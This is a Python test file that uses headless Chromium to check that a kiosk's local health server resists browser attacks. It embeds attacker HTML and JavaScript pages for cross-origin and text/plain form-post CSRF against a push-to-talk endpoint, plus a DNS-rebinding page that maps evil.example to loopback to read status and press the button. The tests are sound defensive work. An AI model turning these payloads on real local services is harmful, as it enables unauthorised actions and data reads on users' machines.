"""Real headless Chromium as the attacker on a kiosk: pages from another origin try to press
the push-to-talk button of the real health server (cross-origin fetch, no-cors fetch, a
text/plain form post) and to read ``/status``, and a DNS-rebinding page reaches the server under
its own name. None may press or read; a page from an allowed origin may (the control that
proves the browser's requests do arrive)."""

from __future__ import annotations

import asyncio
import json

import pytest
from aiohttp import web

from rtedge.health import HealthServer
from rtedge.httpguard import GuardPolicy
from rtedge.state import State
from tests.browser import CHROMIUM, Reports, chromium, start_site
from tests.poll import scaled
from tests.support import free_port, recorder

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed"),
]

ATTACK = """<!doctype html><html><body><iframe name="sink"></iframe><script>
const T = "%(target)s";
const out = {};
const report = (body) => fetch("%(report)s", {method: "POST", mode: "no-cors",
                                              body: JSON.stringify(body)});
async function attempt(name, fn) {
  try { out[name] = await fn(); } catch (e) { out[name] = "blocked: " + e; }
}
async function run() {
  await attempt("cors_post", async () => (await fetch(T + "/ptt/press", {method: "POST"})).status);
  await attempt("nocors_post", async () =>
    (await fetch(T + "/ptt/press", {method: "POST", mode: "no-cors", body: "x"})).type);
  await attempt("json_post", async () => (await fetch(T + "/ptt/press",
    {method: "POST", headers: {"Content-Type": "application/json"}, body: "{}"})).status);
  await attempt("read_status", async () => (await (await fetch(T + "/status")).text()));
  // A form post: no CORS at all, the response lands in the iframe.
  await new Promise((resolve) => {
    const frame = document.querySelector("iframe");
    frame.onload = resolve;
    const form = document.createElement("form");
    form.method = "POST"; form.enctype = "text/plain"; form.target = "sink";
    form.action = T + "/ptt/press";
    const input = document.createElement("input");
    input.name = "x"; input.value = "y"; form.appendChild(input);
    document.body.appendChild(form);
    form.submit();
    setTimeout(resolve, 5000);
  });
  out.form_post = "submitted";
  await report(out);
  location.href = "%(next)s";
}
run().catch((e) => report({error: String(e)}));
</script></body></html>"""

CONTROL = """<!doctype html><html><body><script>
fetch("%(target)s/ptt/press", {method: "POST"})
  .then((r) => r.status, (e) => "blocked: " + e)
  .then((status) => fetch("%(report)s", {method: "POST", mode: "no-cors",
                                         body: JSON.stringify({control_post: status})}));
</script></body></html>"""

REBIND = """<!doctype html><html><body><script>
const report = (body) => fetch("%(report)s", {method: "POST", mode: "no-cors",
                                              body: JSON.stringify(body)});
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
async function run() {
  // Same-origin requests: once the name points at the daemon they reach it with our Host.
  for (let i = 0; i < 300; i++) {
    try {
      const r = await fetch("/status", {cache: "no-store"});
      if (!r.headers.get("X-Attacker")) {
        const body = await r.text();
        const press = await fetch("/ptt/press", {method: "POST"});
        await report({rebound_status: r.status, rebound_body: body.slice(0, 300),
                      rebound_press: press.status});
        return;
      }
    } catch (e) {}
    await sleep(100);
  }
  await report({error: "never rebound"});
}
run();
</script></body></html>"""


async def test_pages_cannot_press_or_read_but_an_allowed_origin_can() -> None:
    presses: list[str] = []
    attacker_port, control_port = free_port(), free_port()
    control_origin = f"http://127.0.0.1:{control_port}"
    health = HealthServer(
        State(),
        "127.0.0.1",
        0,
        on_press=recorder(presses, "press"),
        on_release=recorder(presses, "release"),
        guard=GuardPolicy.build("127.0.0.1", allowed_origins=[control_origin]),
    )
    await health.start()
    target = f"http://127.0.0.1:{health.bound_port}"
    reports = Reports()
    report_url = f"http://127.0.0.1:{attacker_port}/report"

    async def page(request: web.Request) -> web.Response:
        if request.url.port == control_port:
            text = CONTROL % {"target": target, "report": report_url}
        else:
            nxt = f"{control_origin}/page.html"
            text = ATTACK % {"target": target, "report": report_url, "next": nxt}
        return web.Response(text=text, content_type="text/html")

    app = web.Application()
    app.router.add_get("/page.html", page)
    app.router.add_post("/report", reports.handle)
    runners = [await start_site(app, attacker_port)]
    site = web.TCPSite(runners[0], "127.0.0.1", control_port)
    await site.start()
    try:
        async with chromium(f"http://127.0.0.1:{attacker_port}/page.html"):
            attack = await reports.wait("form_post")
            presses_after_attack = list(presses)
            refused_after_attack = dict(health.guard.refused)
            control = await reports.wait("control_post")
    finally:
        for runner in runners:
            await runner.cleanup()
        await health.stop()
    print(f"ATTACK {attack}\nREFUSED {refused_after_attack}\nCONTROL {control}")
    assert "error" not in attack, attack
    assert presses_after_attack == [], (attack, refused_after_attack)
    # The requests did reach the server and were turned away there (not only by the browser):
    # the two POSTs that need no preflight, the form, and the GET.
    assert refused_after_attack.get("origin", 0) >= 4, refused_after_attack
    assert str(attack["read_status"]).startswith("blocked"), attack
    assert "call_id" not in json.dumps(attack)
    # The control: a page from an allowed origin presses, through the same browser.
    assert control["control_post"] == 200, control
    assert presses == ["press"]


async def test_dns_rebinding_page_cannot_read_or_press() -> None:
    presses: list[str] = []
    rebind_port, report_port = free_port(), free_port()
    reports = Reports()
    polled = asyncio.Event()

    async def rebind_page(request: web.Request) -> web.Response:
        text = REBIND % {"report": f"http://127.0.0.1:{report_port}/report"}
        return web.Response(text=text, content_type="text/html")

    async def attacker_status(request: web.Request) -> web.Response:
        polled.set()
        return web.Response(text="{}", headers={"X-Attacker": "1"})

    attacker = web.Application()
    attacker.router.add_get("/rebind.html", rebind_page)
    attacker.router.add_get("/status", attacker_status)
    reporter = web.Application()
    reporter.router.add_post("/report", reports.handle)
    attacker_runner = await start_site(attacker, rebind_port)
    report_runner = await start_site(reporter, report_port)
    health: HealthServer | None = None
    # The attacker's name resolves to loopback, as a rebinding DNS server would answer.
    resolve = "--host-resolver-rules=MAP evil.example 127.0.0.1"
    try:
        async with chromium(f"http://evil.example:{rebind_port}/rebind.html", resolve):
            async with asyncio.timeout(scaled(60)):
                await polled.wait()
            # The rebinding: the attacker's name now leads to the daemon (same name, same port).
            await attacker_runner.cleanup()
            state = State()
            state.update(call_id="rtc_secret_call_id")
            health = HealthServer(
                state,
                "127.0.0.1",
                rebind_port,
                on_press=recorder(presses, "press"),
                on_release=recorder(presses, "release"),
            )
            await health.start()
            got = await reports.wait("rebound_status")
    finally:
        await report_runner.cleanup()
        if health is not None:
            await health.stop()
    print(f"REBIND {got} REFUSED {health.guard.refused if health else None}")
    assert "error" not in got, got
    assert got["rebound_status"] == 403 and got["rebound_press"] == 403, got
    assert "rtc_secret_call_id" not in got["rebound_body"]
    assert health is not None and health.guard.refused.get("host", 0) >= 2
    assert presses == []
